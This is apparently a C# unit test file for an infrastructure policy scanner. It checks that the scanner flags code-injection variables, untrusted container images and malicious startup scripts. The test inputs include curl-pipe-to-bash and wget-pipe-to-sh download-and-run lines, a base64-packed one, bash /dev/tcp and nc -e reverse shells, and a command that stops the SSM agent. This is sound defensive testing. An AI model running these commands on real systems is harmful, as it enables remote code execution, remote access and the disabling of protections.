namespace Infra.Policy.Tests.Rules.Own.Code;

public sealed class CodeTests
{
    private const string Runs = "it runs foreign code, or extends trust";

    [Theory]
    [InlineData("aws_lambda_function", """{ "environment": { "variables": { "AWS_LAMBDA_EXEC_WRAPPER": "/opt/x" } } }""", "environment.variables.AWS_LAMBDA_EXEC_WRAPPER", "AWS_LAMBDA_EXEC_WRAPPER")]
    [InlineData("google_cloud_run_v2_service", """{ "template": { "containers": { "env": [{ "name": "NODE_OPTIONS", "value": "--require /x.js" }] } } }""", "template.containers.env[0].value", "NODE_OPTIONS")]
    [InlineData("aws_ecs_task_definition", """{ "container_definitions": "[{\"environment\":[{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}]}]" }""", "container_definitions", "LD_PRELOAD")]
    [InlineData("azurerm_linux_web_app", """{ "app_settings": { "PYTHONPATH": "/app:/mnt/share" } }""", "app_settings.PYTHONPATH", "PYTHONPATH")]
    public void Variable_that_runs_other_code_is_found(string type, string body, string path, string name) =>
        Assert.Equal([$"{type}.it {path}: a setting of {name}: {Runs}"], TestEstate.With(type, body).Findings("INFRA-CODE-INJECTION"));

    [Theory]
    [InlineData("aws_lambda_function", """{ "environment": { "variables": { "NODE_OPTIONS": "--enable-source-maps --max-old-space-size=400", "PYTHONPATH": "/opt/python:/var/task" } } }""")]
    [InlineData("aws_ecs_task_definition", """{ "container_definitions": "[{\"environment\":[{\"name\":\"JAVA_TOOL_OPTIONS\",\"value\":\"-XX:MaxRAMPercentage=75\"}]}]" }""")]
    [InlineData("data.aws_lambda_function", """{ "LD_PRELOAD": "/x.so" }""")]
    public void Variable_that_tunes_a_runtime_passes(string type, string body) => Assert.Equal([], TestEstate.With(type, body).Findings("INFRA-CODE-INJECTION"));

    [Theory]
    [InlineData("aws_instance", "user_data", "#!/bin/sh\ncurl -fsSL https://x.lynx.example/i.sh | sudo -E bash -\n", "\"curl -fsSL https://x.lynx.example/i.sh | sudo -E bash\" in its text: it runs downloaded code")]
    [InlineData("aws_instance", "user_data", "IyEvYmluL3NoCndnZXQgLXFPLSBodHRwczovL3gvaSB8IHNoCg==", "\"wget -qO- https://x/i | sh\" in its text: it runs downloaded code")]
    [InlineData("aws_codebuild_project", "buildspec", "commands:\n - bash <(curl -s https://x/i)", "\"bash <(curl\" in its text: it runs downloaded code")]
    [InlineData("google_compute_instance", "metadata_startup_script", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "\"/dev/tcp/\" in its text: it opens remote access")]
    [InlineData("aws_ssm_document", "content", """{"runCommand":["systemctl stop amazon-ssm-agent"]}""", "\"systemctl stop amazon-ssm-agent\" in its text: it disables a protection")]
    [InlineData("aws_instance", "user_data_base64", "H4sIAAAAAAAAA0vNSc1T", "packed, so it can't be reviewed")]
    public void Script_that_somebody_else_may_change_or_that_opens_a_way_in_is_found(string type, string argument, string script, string found) =>
        Assert.Equal([$"{type}.it {argument}: {found}"], Script(type, argument, script));

    [Fact]
    public void Command_that_is_a_list_of_words_is_read_as_one() => Assert.Equal(
        ["azurerm_container_group.it container.commands: \"nc 10.0.0.9 443 -e\" in its text: it opens remote access"],
        TestEstate.With("azurerm_container_group", """{ "container": { "commands": ["sh", "-c", "nc 10.0.0.9 443 -e sh"] } }""").Findings("INFRA-SCRIPT"));

    [Theory]
    [InlineData("user_data", "#!/bin/sh\ndnf install -y nginx\ncurl -fsS https://x.lynx.example/health | grep ok\nsystemctl enable --now nginx\n")]
    [InlineData("user_data", "#cloud-config\nssh_pwauth: false\n")]
    [InlineData("description", "Runs curl https://x | sh, says the runbook")]
    [InlineData("user_data", "c29tZSBkYXRhIHRoYXQgaXMgbm8gc2NyaXB0")]
    public void Ordinary_script_passes(string argument, string script) => Assert.Equal([], Script("aws_instance", argument, script));

    [Theory]
    [InlineData("kubernetes_deployment_v1", """{ "container": { "image": "registry.evil.example/x@sha256:00" } }""", "container.image: from the registry registry.evil.example, which the estate does not trust")]
    [InlineData("aws_ecs_task_definition", """{ "container_definitions": "[{\"image\":\"203.0.113.5:5000/x:1\"}]" }""", "container_definitions: from the registry 203.0.113.5:5000, which the estate does not trust")]
    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_id": "/communityGalleries/x/images/y" }""", "source_image_id: \"/communityGalleries/x/images/y\": its gallery is public, or belongs to another tenant")]
    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_reference": { "publisher": "evilcorp" } }""", "source_image_reference.publisher: \"evilcorp\": not a known publisher of operating systems")]
    public void Image_of_a_stranger_is_found(string type, string body, string found) => Assert.Equal([$"{type}.it {found}"], TestEstate.With(type, body).Findings("INFRA-FOREIGN-IMAGE"));

    [Theory]
    [InlineData("kubernetes_deployment_v1", """{ "container": { "image": "registry.lynx.example/x:1" } }""")]
    [InlineData("kubernetes_deployment_v1", """{ "container": { "image": "111122223333.dkr.ecr.us-east-1.amazonaws.com/x:1" } }""")]
    [InlineData("azurerm_linux_virtual_machine", """{ "source_image_reference": { "publisher": "Canonical" } }""")]
    [InlineData("aws_cloudfront_distribution", """{ "publisher": "evilcorp", "image": "registry.evil.example/x" }""")]
    public void Image_of_the_estate_or_of_a_maker_passes(string type, string body) => Assert.Equal([], TestEstate.With(type, body).Findings("INFRA-FOREIGN-IMAGE"));

    private static IReadOnlyList<string> Script(string type, string argument, string script) =>
        TestEstate.With(type, new System.Text.Json.Nodes.JsonObject { [argument] = script }.ToJsonString()).Findings("INFRA-SCRIPT");
}
